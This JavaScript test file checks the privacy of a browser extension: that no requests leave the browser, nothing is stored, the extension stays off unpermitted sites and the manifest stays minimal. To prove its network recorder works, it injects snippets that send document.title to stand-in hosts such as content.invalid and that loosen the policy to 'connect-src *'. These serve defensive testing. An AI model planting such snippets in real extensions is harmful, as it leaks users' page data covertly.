// Nothing leaves the device. Every request of the browser was recorded, of the whole run; here all of
// them are looked through, and a copy of the extension that does send proves that it would be seen.

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { differences, hostPatterns } from "../../../xtask/manifests.mjs";
import { say } from "../lib/chat-page.mjs";
import { MAKERS } from "../lib/network.mjs";
import { TALK } from "../lib/talk.mjs";
import { until } from "../lib/wait.mjs";
import { startPages } from "../servers/pages.mjs";

/** What the pages of the run ask their own servers for. */
const ASKED = {
  pages:
    /^\/((axe\/)?(chat|pictures)|chat\?font=0|kept|strict|strict-dialog|frame|shadow|closed|own-structure|article|converse(\?.*|\.mjs)?|converse-files\/.*)$/,
  demo: /^\/(chat\.(css|js)|events\?side=me|say\?side=me)?$/,
  lounge:
    /^\/((assets|img|js|themes|socket\.io|uploads)\/.*|favicon\.ico|thelounge\.webmanifest|service-worker\.js)?$/,
};

/** Requests that no page of the run makes, nor the browser by itself. */
export async function strangers(scene, session) {
  const { host } = await scene.pages();
  const servers = [
    [host, ASKED.pages],
    // The same under its other name, in a frame.
    [host.replace("127.0.0.1", "localhost"), ASKED.pages],
    [new URL((await scene.demo()).address).host, ASKED.demo],
  ];
  const [lounge, xmpp] = [await scene.started("lounge"), await scene.started("xmpp")];
  if (lounge) servers.push([new URL(lounge.url).host, ASKED.lounge]);
  if (xmpp) servers.push([new URL(xmpp.socket).host, /^(\/file_share\/[\w./-]+)?$/]);
  return session.recorder.seen.filter(
    ({ method, host, path }) =>
      !(method === "CONNECT" && MAKERS[session.name].test(host)) &&
      !servers.some(
        ([known, asked]) => host === known && (method === "CONNECT" || asked.test(path)),
      ),
  );
}

/** Chromium tells what its service worker asks for; Firefox has no such way in. */
async function listenToWorker(session, urls) {
  const target = session.browser.targets().find((target) => target.type() === "service_worker");
  if (!target) return { detach() {} };
  const listening = await target.createCDPSession();
  listening.on("Network.requestWillBeSent", ({ request }) => {
    // Its own files come from the disk.
    if (!request.url.startsWith("chrome-extension:")) urls.push(request.url);
  });
  await listening.send("Network.enable");
  return listening;
}

/** A conversation with everything a person can do on the card. */
async function play(view) {
  await say(view, TALK.en.request);
  await view.shown();
  await view.click("open");
  await until("the card to open", async () => (await view.card())?.buttons.fine);
  await view.click("fine");
  await view.gone();
  await say(view, TALK.en.threat);
  await view.shown();
  await view.click("hide");
  await view.gone();
}

/** All that a page could find afterwards. */
function keptByThePage(page) {
  return page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    hosts: document.querySelectorAll("[popover]").length,
    sheets: document.adoptedStyleSheets.length,
    attributes: document.documentElement.getAttributeNames(),
  }));
}

/** Each of the ways by which an extension could send. */
const SENDERS = {
  content: 'fetch("https://content.invalid/" + document.title).catch(() => {});',
  picture: 'new Image().src = "https://picture.invalid/" + document.title;',
  background: 'fetch("https://background.invalid/").catch(() => {});',
  own: 'fetch(location.origin + "/own?" + document.title).catch(() => {});',
};

export const tests = {
  async "no request leaves the browser but those of the pages themselves"(scene) {
    const [session, pages] = [await scene.session(), await scene.pages()];
    const view = await session.open(pages.url("/chat"));
    const during = [];
    const listen = (request) => during.push(request.url());
    view.page.on("request", listen);
    const listening = await listenToWorker(session, during);
    await play(view);
    view.page.off("request", listen);
    await listening.detach();
    // What the browser tells of the page and the worker themselves, whatever the host.
    assert.deepEqual(during, [], "requests while the card stood");
    await view.close();
    const asked = session.recorder.seen.filter(
      ({ host, path }) => host === pages.host && path === "/chat",
    );
    assert.ok(asked.length > 0, "the recorder is blind");
    assert.deepEqual(await strangers(scene, session), []);
  },

  async "an extension that sends, from page, card or background, is seen"(scene) {
    const pages = await scene.pages();
    const session = await scene.another({
      name: "sending",
      change: (copy) => {
        const { content, picture, own, background } = SENDERS;
        copy.replace("content.js", /$/, `;${content}${picture}${own}`);
        copy.replace("background.js", /$/, `;${background}`);
        copy.manifest((manifest) => {
          const pages = manifest.content_security_policy;
          pages.extension_pages = pages.extension_pages.replace(
            "connect-src 'self'",
            "connect-src *",
          );
        });
      },
    });
    try {
      await session.open(pages.url("/chat"));
      const seen = async () =>
        (await strangers(scene, session)).map(({ host, path }) => host + path);
      for (const sign of ["content.invalid", "picture.invalid", "background.invalid", "/own?"]) {
        await until(
          `${sign} to be seen`,
          async () => (await seen()).some((one) => one.includes(sign)),
          { seen },
        );
      }
    } finally {
      await session.close();
    }
  },

  async "the background may not send even if it would: its policy refuses"(scene) {
    const pages = await scene.pages();
    const session = await scene.another({
      name: "refused",
      change: (copy) =>
        copy.replace(
          "background.js",
          /$/,
          ';fetch("https://background.invalid/").catch((error) => chrome.storage.local.set({ refused: String(error) }));',
        ),
    });
    try {
      const view = await session.open(pages.url("/chat"));
      await until("the refusal", async () => (await view.ask("storage")).local.refused);
      assert.deepEqual(await strangers(scene, session), []);
    } finally {
      await session.close();
    }
  },

  async "nothing is kept: no storage of the extension or the page, and nothing in the page"(scene) {
    const [session, pages] = [await scene.session(), await scene.pages()];
    const view = await session.open(pages.url("/chat"));
    const before = await keptByThePage(view.page);
    await play(view);
    const { local, session: brief } = await view.ask("storage");
    assert.deepEqual(local, {});
    assert.deepEqual(brief ?? {}, {});
    assert.deepEqual(await keptByThePage(view.page), before);
    await view.close();
  },

  async "on a page outside the permitted sites nothing of it runs"(scene) {
    const mark = 'document.documentElement.dataset.ran = "here";';
    const session = await scene.another({
      name: "outside",
      change: (copy) => copy.replace("content.js", /^/, mark),
    });
    // Of loopback, the copy is permitted on 127.0.0.1 and localhost.
    const [inside, outside] = [await scene.pages(), await startPages("127.0.0.2")];
    const left = (view) =>
      view.page.evaluate(() => [
        document.documentElement.dataset.ran ?? "nothing",
        document.querySelectorAll("[popover]").length,
      ]);
    try {
      const there = await session.open(outside.url("/chat"));
      await say(there, TALK.en.threat);
      // By the time that a chat was read that was opened later, this one would have been.
      const here = await session.open(inside.url("/chat"), { type: "window" });
      await say(here, TALK.en.threat);
      await here.shown();
      assert.deepEqual(await left(here), ["here", 1]);
      assert.deepEqual(await left(there), ["nothing", 0]);
    } finally {
      await session.close();
      await outside.stop();
    }
  },

  async "the manifest asks for no more than it needs and names no remote origin"(scene) {
    const file = new URL(`../../../dist/${scene.browser}/manifest.json`, import.meta.url);
    const manifest = JSON.parse(readFileSync(file, "utf8"));
    assert.deepEqual(differences(scene.browser, manifest, await hostPatterns()), []);
  },

  async "every test that the threat model names is there"() {
    const folder = new URL("./", import.meta.url);
    const names = new Map();
    for (const file of readdirSync(folder)) {
      const { tests } = await import(new URL(file, folder).href);
      names.set(file.replace(/\.mjs$/, ""), Object.keys(tests));
    }
    const document = new URL("../../../docs/threat-model.md", import.meta.url);
    const rows = readFileSync(document, "utf8").matchAll(/\|([^|\n]*)\|[^|\n]*\|$/gm);
    const missing = [];
    let named = 0;
    for (const [, cell] of rows) {
      let file = null;
      for (const [, cited] of cell.matchAll(/`([^`]+)`/g)) {
        const [, begins, rest] = /^(?:([\w-]+): )?(.*)$/.exec(cited);
        if (/^(tests|fuzz)\//.test(cited)) continue;
        file = begins ?? (names.has(cited) ? cited : file);
        if (cited === file) continue;
        const parts = rest.split("…").map((part) => part.trim());
        const fits = (name) =>
          name.startsWith(parts[0]) && parts.every((part) => name.includes(part));
        if (!names.get(file)?.some(fits)) missing.push(`${file}: ${rest}`);
        named += 1;
      }
    }
    assert.ok(named > 30, `${named} tests are named`);
    assert.deepEqual(missing, []);
  },
};
